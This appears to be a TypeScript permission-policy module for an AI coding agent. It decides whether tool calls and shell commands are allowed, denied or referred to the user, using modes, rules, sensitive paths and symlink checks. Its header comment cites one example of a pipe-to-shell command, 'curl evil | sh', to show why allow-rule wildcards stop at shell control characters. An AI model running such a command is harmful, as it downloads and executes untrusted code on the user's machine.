/**
 * The pure permission policy: (subject, mode, rules) → allow | deny | ask.
 *
 * Order: the LAST matching rule wins over the mode default; a sensitive path or a dangerous
 * command forces `ask` over the mode and over allow rules, but a deny rule still denies (deny
 * is the safe side). Modes: `ask` asks, `accept-edits` allows edit/delete/move calls whose
 * paths are ALL inside the roots, `auto` allows everything.
 *
 * Paths are judged as named AND as resolved (`realPaths`, when the broker filled them in): a
 * symlink in the workspace pointing outside is outside, a link named `notes` pointing at `.env`
 * is sensitive, an allow or ask rule's glob must hold for both forms, a deny rule's for either.
 *
 * Effects Talaria performs for the agent (`subject.effect`): a write follows the mode like an
 * edit, a terminal like an execute call, and a read inside the roots is allowed in every mode —
 * unless a rule says otherwise or the file is sensitive.
 *
 * Command patterns are glob-like over the whole (trimmed) command line: `*` any run, `?` one
 * character, `\x` a literal x, whitespace matches any whitespace. So that `git *` cannot allow
 * `git status; curl evil | sh`, wildcards in allow/ask rules never cross shell control
 * characters (; & | ` $ ( ) < > newline). Deny rules are read the other way: they match if the
 * whole line OR any single command in it matches, so `rm *` also denies `cd x && rm y`.
 */

import { isAbsolute, relative, sep } from 'node:path';
import picomatch from 'picomatch';
import { dangerReason } from './dangerous.js';
import { commandForMatching } from './env-words.js';
import { isSensitivePath } from './sensitive.js';
import { simpleCommands } from './shell.js';
import type { Decision, PermissionMode, PermissionRule, PermissionSubject, PolicyResult } from './types.js';

export interface PolicyConfig {
  mode: PermissionMode;
  rules: PermissionRule[];
}

/** Tool kinds `accept-edits` allows (when every path is inside the roots). */
export const EDIT_KINDS: readonly string[] = ['edit', 'delete', 'move'];

export function evaluate(subject: PermissionSubject, config: PolicyConfig): PolicyResult {
  const rules = Array.isArray(config.rules) ? config.rules : [];
  let rule: PermissionRule | undefined;
  for (const r of rules) if (ruleMatches(r, subject)) rule = r;

  if (rule?.decision === 'deny') return { decision: 'deny', rule, reason: `denied by rule ${describeRule(rule)}` };

  const sensitive = sensitiveTouched(subject);
  if (sensitive) {
    return {
      decision: 'ask',
      forcedAsk: 'sensitive_path',
      reason: `touches sensitive path ${sensitive}${overridden(rule)}`,
    };
  }
  const danger = subject.command ? dangerReason(subject.command) : undefined;
  if (danger)
    return {
      decision: 'ask',
      forcedAsk: 'dangerous_command',
      reason: `dangerous command (${danger})${overridden(rule)}`,
    };

  if (rule) return { decision: rule.decision, rule, reason: `${verb(rule.decision)} by rule ${describeRule(rule)}` };
  return modeDefault(subject, config.mode);
}

function modeDefault(subject: PermissionSubject, mode: PermissionMode): PolicyResult {
  if (subject.effect === 'fs.read') {
    const outside = outsideRoots(subject);
    if (outside) return { decision: 'ask', reason: `read of ${outside}, outside the session roots` };
    return { decision: 'allow', reason: 'reads inside the session roots are allowed' };
  }
  if (mode === 'auto') return { decision: 'allow', reason: 'auto mode allows everything' };
  if (mode === 'accept-edits') {
    const kind = subject.toolKind;
    if (kind && EDIT_KINDS.includes(kind)) {
      if (subject.paths.length === 0) return { decision: 'ask', reason: `accept-edits: ${kind} with no known path` };
      const outside = outsideRoots(subject);
      if (outside) return { decision: 'ask', reason: `accept-edits: ${outside} is outside the session roots` };
      return { decision: 'allow', reason: `accept-edits allows ${kind} inside the session roots` };
    }
    return { decision: 'ask', reason: `accept-edits asks for ${kind ?? 'untyped'} tool calls` };
  }
  return { decision: 'ask', reason: 'ask mode' };
}

/**
 * A path (as named, or as resolved when known) outside the roots. Relative paths (no root to
 * resolve them against) count as outside.
 */
function outsideRoots(subject: PermissionSubject): string | undefined {
  const named = subject.paths.find((p) => !isInsideRoots(p, subject.roots));
  if (named) return named;
  const real = subject.realPaths;
  if (!real) return undefined;
  const realRoots = subject.realRoots ?? subject.roots;
  const i = real.findIndex((p) => !isInsideRoots(p, realRoots));
  return i < 0 ? undefined : `${subject.paths[i] ?? real[i]} (really ${real[i]})`;
}

/** First sensitive path among the subject's paths (named or resolved) and the words of its command. */
function sensitiveTouched(subject: PermissionSubject): string | undefined {
  const hit = subject.paths.find(isSensitivePath);
  if (hit) return hit;
  const i = subject.realPaths?.findIndex(isSensitivePath) ?? -1;
  if (i >= 0) return `${subject.paths[i] ?? ''} (really ${subject.realPaths![i]})`;
  if (!subject.command) return undefined;
  for (const c of simpleCommands(subject.command)) {
    for (const w of [...c.words.slice(1), ...c.redirects.map((r) => r.target)]) {
      // `--env-file=.env`: the value after `=` is the path (but `--exclude-dir=.git` keeps it out).
      const opt = /^(-[^=]*)=(.+)$/.exec(w);
      const value = opt && !/exclude|ignore/i.test(opt[1]!) ? opt[2] : undefined;
      if (isSensitivePath(w)) return w;
      if (value !== undefined && isSensitivePath(value)) return value;
    }
  }
  return undefined;
}

export function ruleMatches(rule: PermissionRule, subject: PermissionSubject): boolean {
  if (!rule || typeof rule !== 'object') return false;
  if (rule.toolKind !== undefined) {
    const kinds = Array.isArray(rule.toolKind) ? rule.toolKind : [rule.toolKind];
    if (!subject.toolKind || !kinds.includes(subject.toolKind)) return false;
  }
  if (rule.pathGlob !== undefined && !pathGlobMatches(rule, subject)) return false;
  if (rule.command !== undefined) {
    if (!subject.command || !commandMatches(rule.command, subject.command, rule.decision)) return false;
  }
  return true;
}

/** A deny glob matches the paths as named OR as resolved; any other rule needs both. */
function pathGlobMatches(rule: PermissionRule, subject: PermissionSubject): boolean {
  const glob = rule.pathGlob!;
  const named = globMatchesAll(glob, subject.paths, subject.roots);
  if (!subject.realPaths) return named;
  const real = globMatchesAll(glob, subject.realPaths, subject.realRoots ?? subject.roots);
  return rule.decision === 'deny' ? named || real : named && real;
}

export function isInsideRoots(p: string, roots: string[]): boolean {
  return roots.some((r) => isInside(p, r));
}

function isInside(p: string, root: string): boolean {
  const rel = relative(root, p);
  return rel === '' || (!rel.startsWith('..' + sep) && rel !== '..' && !isAbsolute(rel));
}

const globCache = new Map<string, (s: string) => boolean>();

function compileGlob(glob: string): (s: string) => boolean {
  let m = globCache.get(glob);
  if (!m) {
    m = picomatch(glob, { dot: true });
    if (globCache.size > 500) globCache.clear();
    globCache.set(glob, m);
  }
  return m;
}

/** Every path must match; relative globs are tried against each root the path is inside. */
export function globMatchesAll(glob: string, paths: string[], roots: string[]): boolean {
  if (typeof glob !== 'string' || glob === '' || paths.length === 0) return false;
  const m = compileGlob(glob);
  if (isAbsolute(glob)) return paths.every((p) => m(p));
  return paths.every((p) => roots.some((r) => isInside(p, r) && m(relative(r, p) || '.')));
}

const SAFE_RUN = '[^;&|\\n\\r`$()<>]';
const patternCache = new Map<string, RegExp>();

function compilePattern(pattern: string, crossControl: boolean): RegExp {
  const key = `${crossControl ? 1 : 0}\u0000${pattern}`;
  let re = patternCache.get(key);
  if (re) return re;
  let src = '';
  const p = pattern.trim();
  for (let i = 0; i < p.length; i++) {
    const c = p[i]!;
    if (c === '\\' && i + 1 < p.length) src += escapeRe(p[++i]!);
    else if (c === '*') src += crossControl ? '[\\s\\S]*' : `${SAFE_RUN}*`;
    else if (c === '?') src += crossControl ? '[\\s\\S]' : SAFE_RUN;
    else if (/\s/.test(c)) {
      while (i + 1 < p.length && /\s/.test(p[i + 1]!)) i++;
      src += '\\s+';
    } else src += escapeRe(c);
  }
  re = new RegExp(`^${src}$`);
  if (patternCache.size > 500) patternCache.clear();
  patternCache.set(key, re);
  return re;
}

export function commandMatches(pattern: string, command: string, decision: Decision = 'allow'): boolean {
  if (typeof pattern !== 'string' || pattern.trim() === '') return false;
  const line = command.trim();
  if (decision !== 'deny') {
    const re = compilePattern(pattern, false);
    // An agent's own plain `NAME=value` words in front do not stop a rule (env-words.ts).
    const bare = commandForMatching(line);
    return re.test(line) || (bare !== line && re.test(bare));
  }
  const re = compilePattern(pattern, true);
  return re.test(line) || simpleCommands(line).some((c) => re.test(c.words.join(' ')));
}

/** Escapes a literal so that it is matched exactly as a command pattern (for "always" rules). */
export function escapeCommandPattern(command: string): string {
  return command.trim().replace(/[\\*?]/g, (c) => '\\' + c);
}

/** Escapes a literal path for a picomatch glob. */
export function escapeGlob(path: string): string {
  return path.replace(/[\\*?[\]{}()!+@,^$|.]/g, (c) => '\\' + c);
}

function escapeRe(c: string): string {
  return c.replace(/[.*+?^${}()|[\]\\/-]/g, '\\$&');
}

function verb(d: Decision): string {
  return d === 'allow' ? 'allowed' : d === 'deny' ? 'denied' : 'asks';
}

export function describeRule(rule: PermissionRule): string {
  const parts: string[] = [];
  if (rule.id) parts.push(`#${rule.id}`);
  if (rule.toolKind !== undefined) parts.push(`kind=${[rule.toolKind].flat().join('|')}`);
  if (rule.pathGlob !== undefined) parts.push(`path=${rule.pathGlob}`);
  if (rule.command !== undefined) parts.push(`command=${JSON.stringify(rule.command)}`);
  if (parts.length === 0) parts.push('(any)');
  return `${rule.decision} ${parts.join(' ')}`;
}

function overridden(rule: PermissionRule | undefined): string {
  return rule && rule.decision === 'allow' ? ` (overrides rule ${describeRule(rule)})` : '';
}
